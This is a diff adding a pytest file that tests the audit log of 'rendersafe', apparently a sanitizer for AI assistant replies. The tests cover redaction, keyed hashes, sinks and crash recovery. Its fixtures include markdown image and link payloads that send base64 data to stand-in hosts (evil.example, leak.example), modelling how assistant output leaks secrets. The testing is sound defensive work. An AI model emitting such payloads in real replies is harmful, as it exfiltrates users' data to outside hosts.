@@ -1,0 +1,317 @@
+"""The audit log: records, redaction and keyed hashes, sinks, the background writer
+under load from real processes, crashes, failing sinks, and `rendersafe audit summary`."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+import logging
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+from datetime import UTC, datetime
+from pathlib import Path
+
+import httpx
+import pytest
+
+from attacks import PLANTED, transcript_payloads
+from fixture_files import all_cases
+from rendersafe import Finding, Policy, Sanitizer
+from rendersafe.audit import AuditLog, AuditRecord, JsonlSink, LoggingSink, Source, url_hmac
+from rendersafe.cli import run
+from rendersafe.errors import AuditError, PolicyError
+from rendersafe.middleware import RenderSafeMiddleware
+from servers import Server
+
+ROOT = Path(__file__).parent.parent
+IMG = "![x](https://evil.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
+
+
+def lines(path: Path) -> list[dict[str, object]]:
+    return [json.loads(line) for line in path.read_text().splitlines()]
+
+
+def test_records_in_a_jsonl_file(tmp_path: Path) -> None:
+    path = tmp_path / "audit.jsonl"
+    with AuditLog([JsonlSink(path)], key="k") as audit:
+        Sanitizer(audit=audit).run(f"a {IMG}", context={"conversation_id": "c1"})
+    (record,) = lines(path)
+    assert record["schema_version"] == 1
+    assert record["event"] == "finding"
+    assert record["source"] == {"kind": "function", "method": None, "path": None,
+                                "request_id": None, "file": None, "line": None,
+                                "record_id": None}  # fmt: skip
+    assert record["construct"] == "image"
+    assert record["action"] == "removed"
+    assert record["reasons"] == ["encoded_base64", "image_host_not_allowed"]
+    assert record["host"] == "evil.example"
+    assert record["url"] == "https://evil.example/{5}?d={36}"
+    assert (record["line"], record["column"]) == (1, 3)
+    assert record["context"] == {"conversation_id": "c1"}
+    assert len(str(record["policy_digest"])) == 16
+    assert datetime.fromisoformat(str(record["time"])).tzinfo is not None
+
+
+def test_keyed_hash_matches_one_url_and_only_with_the_key(tmp_path: Path) -> None:
+    full = "https://evil.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ="
+    records: list[AuditRecord] = []
+    for key in ("key-one", "key-one", "key-two"):
+        with AuditLog([records.append], key=key) as audit:
+            Sanitizer(audit=audit).run(IMG)
+    hashes = [r.url_hmac for r in records]
+    assert hashes[0] == hashes[1] == url_hmac(b"key-one", full)
+    assert hashes[2] != hashes[0]
+    assert "SGVsbG8" not in records[0].model_dump_json()
+
+
+def test_full_urls_only_when_asked(tmp_path: Path) -> None:
+    records: list[AuditRecord] = []
+    with AuditLog([records.append], full_urls=True) as audit:
+        Sanitizer(audit=audit).run(IMG)
+    assert records[0].url == "https://evil.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ="
+
+
+def test_no_planted_secret_reaches_the_audit_file(tmp_path: Path) -> None:
+    path = tmp_path / "audit.jsonl"
+    replies = [case.input for case in all_cases() if not case.benign]
+    for transcript in (ROOT / "fixtures" / "transcripts").glob("*.jsonl"):
+        for line in transcript.read_text().splitlines():
+            replies += [m["content"] for m in json.loads(line)["messages"]
+                        if m["role"] == "assistant"]  # fmt: skip
+    with AuditLog([JsonlSink(path)]) as audit:
+        sanitizer = Sanitizer(audit=audit)
+        for reply in replies:
+            sanitizer.run(reply)
+    written = path.read_text()
+    assert len(written.splitlines()) > 200
+    secrets = [*PLANTED, *transcript_payloads()]
+    assert [s for s in secrets if s in written or json.dumps(s)[1:-1] in written] == []
+
+
+def test_stream_findings_recorded(tmp_path: Path) -> None:
+    records: list[AuditRecord] = []
+    seen: list[Finding] = []
+    with AuditLog([records.append]) as audit:
+        stream = Sanitizer(audit=audit).stream(context={"c": "1"}, on_finding=seen.append)
+        for piece in (IMG[:10], IMG[10:], " ok"):
+            stream.feed(piece)
+        stream.close()
+    assert [r.construct for r in records] == ["image"]
+    assert records[0].context == {"c": "1"}
+    assert len(seen) == 1
+
+
+def test_logging_sink(caplog: pytest.LogCaptureFixture) -> None:
+    with caplog.at_level(logging.INFO, logger="rendersafe.audit.test"), AuditLog(
+        [LoggingSink("rendersafe.audit.test")]
+    ) as audit:  # fmt: skip
+        Sanitizer(audit=audit).run(IMG)
+    (logged,) = [r for r in caplog.records if r.name == "rendersafe.audit.test"]
+    assert json.loads(logged.getMessage())["construct"] == "image"
+    assert logged.rendersafe_audit["host"] == "evil.example"  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize("where", ["missing/dir/audit.jsonl", "."])
+def test_unwritable_path_fails_at_start(tmp_path: Path, where: str) -> None:
+    with pytest.raises(AuditError, match="cannot open the audit file"):
+        JsonlSink(tmp_path / where)
+
+
+def test_a_failing_sink_is_counted_and_sanitising_goes_on(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    def full_disk(record: AuditRecord) -> None:
+        raise OSError(28, "No space left on device")
+
+    kept: list[AuditRecord] = []
+    with AuditLog([full_disk, kept.append]) as audit:
+        result = Sanitizer(audit=audit).run(IMG)
+        audit.flush()
+        assert audit.failures == 1
+        assert audit.broken
+    assert "image removed" in result.text.replace("\\", "")
+    assert len(kept) == 1  # the other sink still got it
+    assert "No space left on device" in caplog.text
+
+
+def test_audit_required_fails_closed_with_503() -> None:
+    broken = {"on": True}
+
+    def flaky(record: AuditRecord) -> None:
+        if broken["on"]:
+            raise OSError(28, "No space left on device")
+
+    async def app(scope: object, receive: object, send: object) -> None:
+        from starlette.responses import PlainTextResponse  # noqa: PLC0415
+
+        await PlainTextResponse(f"hi {IMG}")(scope, receive, send)  # type: ignore[arg-type]
+
+    policy = Policy(audit_required=True)
+    with pytest.raises(PolicyError, match="audit_required"):
+        RenderSafeMiddleware(app, policy=policy)
+    audit = AuditLog([flaky])
+    with Server(RenderSafeMiddleware(app, policy=policy, audit=audit)) as server:
+        first = httpx.get(server.url)  # sanitised; its record fails to write
+        audit.flush()
+        refused = httpx.get(server.url)
+        broken["on"] = False
+        audit.emit(audit.event_record("error", Source(kind="function"), "x", "probe"))
+        audit.flush()
+        again = httpx.get(server.url)
+    audit.close()
+    assert first.status_code == 200
+    assert "evil.example" not in first.text
+    assert refused.status_code == 503
+    assert refused.json()["error"]["type"] == "rendersafe_error"
+    assert again.status_code == 200
+
+
+def test_back_pressure_loses_nothing() -> None:
+    got: list[AuditRecord] = []
+
+    def slow(record: AuditRecord) -> None:
+        time.sleep(0.002)
+        got.append(record)
+
+    record = AuditLog([], key="k").event_record("error", Source(kind="function"), "d", "m")
+    with AuditLog([slow], queue_size=2) as audit:
+        start = time.monotonic()
+        for _ in range(100):
+            audit.emit(record)
+        waited = time.monotonic() - start
+    assert len(got) == 100
+    assert waited > 0.05  # emit waited for the writer instead of dropping records
+
+
+def test_aemit_waits_without_blocking_the_event_loop() -> None:
+    release = threading.Event()
+
+    def stuck(record: AuditRecord) -> None:
+        release.wait(5)
+
+    audit = AuditLog([stuck], queue_size=1)
+    record = audit.event_record("error", Source(kind="function"), "d", "m")
+
+    async def main() -> int:
+        ticks = 0
+
+        async def ticker() -> None:
+            nonlocal ticks
+            while True:
+                ticks += 1
+                await asyncio.sleep(0.005)
+
+        task = asyncio.create_task(ticker())
+        emits = asyncio.gather(*(audit.aemit(record) for _ in range(5)))
+        await asyncio.sleep(0.2)
+        release.set()
+        await emits
+        task.cancel()
+        return ticks
+
+    assert asyncio.run(main()) > 10
+    audit.close()
+
+
+WRITER = textwrap.dedent(
+    """
+    import sys, threading
+    from rendersafe.audit import AuditLog, JsonlSink, Source
+    path, proc, threads, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+    audit = AuditLog([JsonlSink(path)], queue_size=64)
+    def work(thread):
+        for i in range(count):
+            message = f"{proc}/{thread}/{i}/" + "x" * 3000  # beyond PIPE_BUF
+            audit.emit(audit.event_record("error", Source(kind="batch"), "d", message))
+    workers = [threading.Thread(target=work, args=(t,)) for t in range(threads)]
+    [w.start() for w in workers]
+    [w.join() for w in workers]
+    if sys.argv[5:] != ["no-close"]:
+        audit.close()
+    """
+)
+
+
+def test_processes_and_threads_share_one_file(tmp_path: Path) -> None:
+    path, procs, threads, count = tmp_path / "audit.jsonl", 4, 4, 150
+    children = [
+        subprocess.Popen(
+            [sys.executable, "-c", WRITER, str(path), str(p), str(threads), str(count)]
+        )
+        for p in range(procs)
+    ]
+    assert [child.wait(timeout=120) for child in children] == [0] * procs
+    messages = [str(record["message"]) for record in lines(path)]
+    assert len(messages) == procs * threads * count
+    assert len({m.split("/x")[0] for m in messages}) == procs * threads * count  # all distinct
+    assert all(m.endswith("x" * 3000) for m in messages)  # none torn
+
+
+def test_records_written_at_exit_without_close(tmp_path: Path) -> None:
+    path = tmp_path / "audit.jsonl"
+    command = [sys.executable, "-c", WRITER, str(path), "0", "2", "300", "no-close"]
+    subprocess.run(command, check=True, timeout=120)
+    assert len(lines(path)) == 600
+
+
+CRASH = textwrap.dedent(
+    """
+    import os, sys
+    from rendersafe.audit import AuditLog, JsonlSink, Source
+    sink = JsonlSink(sys.argv[1])
+    record = AuditLog([]).event_record("error", Source(kind="batch"), "d", "before")
+    sink.write_batch([record] * 3)
+    line = record.model_dump_json().encode()
+    os.write(sink._fd, line[: len(line) // 2])  # the write a crash cuts short
+    os._exit(9)
+    """
+)
+
+
+def test_crash_leaves_one_partial_line_that_summary_skips(tmp_path: Path) -> None:
+    path = tmp_path / "audit.jsonl"
+    crashed = subprocess.run([sys.executable, "-c", CRASH, str(path)], check=False, timeout=60)
+    assert crashed.returncode == 9
+    out, err = io.StringIO(), io.StringIO()
+    assert run(["audit", "summary", str(path)], stdout=out, stderr=err) == 0
+    assert out.getvalue().startswith("3 records (3 error), 1 skipped")
+    assert f"{path}:4: skipped a partial last line" in err.getvalue()
+    # A writer that opens the file next starts after the partial line, on a line of its own.
+    with AuditLog([JsonlSink(path)]) as audit:
+        Sanitizer(audit=audit).run(IMG)
+    out, err = io.StringIO(), io.StringIO()
+    run(["audit", "summary", str(path), "--json"], stdout=out, stderr=err)
+    counts = json.loads(out.getvalue())
+    assert counts["records"] == 4
+    assert counts["skipped"] == 1
+    assert f"{path}:4: skipped a line that is not JSON" in err.getvalue()
+
+
+def test_summary_counts(tmp_path: Path) -> None:
+    path = tmp_path / "audit.jsonl"
+    replies = [IMG, f"[a](https://leak.example/?q={'QUJDREVGR0hJSktMTU5PUFFSU1RVVldY' * 2})",
+               "![y](https://evil.example/y.png)"]  # fmt: skip
+    with AuditLog([JsonlSink(path)]) as audit:
+        for reply in replies:
+            Sanitizer(audit=audit).run(reply)
+    out = io.StringIO()
+    assert run(["audit", "summary", str(path)], stdout=out, stderr=io.StringIO()) == 0
+    table = out.getvalue()
+    assert table.startswith("3 records (3 finding), 0 skipped")
+    assert "evil.example        2" in table
+    assert "image_host_not_allowed        2" in table
+    today = datetime.now(UTC).date().isoformat()
+    assert f"{today}        3" in table
+    out = io.StringIO()
+    run(["audit", "summary", str(path), "--json", "--since", "2999-01-01"], stdout=out)
+    assert json.loads(out.getvalue())["records"] == 0
+
+
+def test_documented_schema_is_current() -> None:
+    """docs/audit-record.schema.json is generated: `rendersafe audit schema > ...`."""
+    documented = json.loads((ROOT / "docs" / "audit-record.schema.json").read_text())
+    assert documented == AuditRecord.model_json_schema()
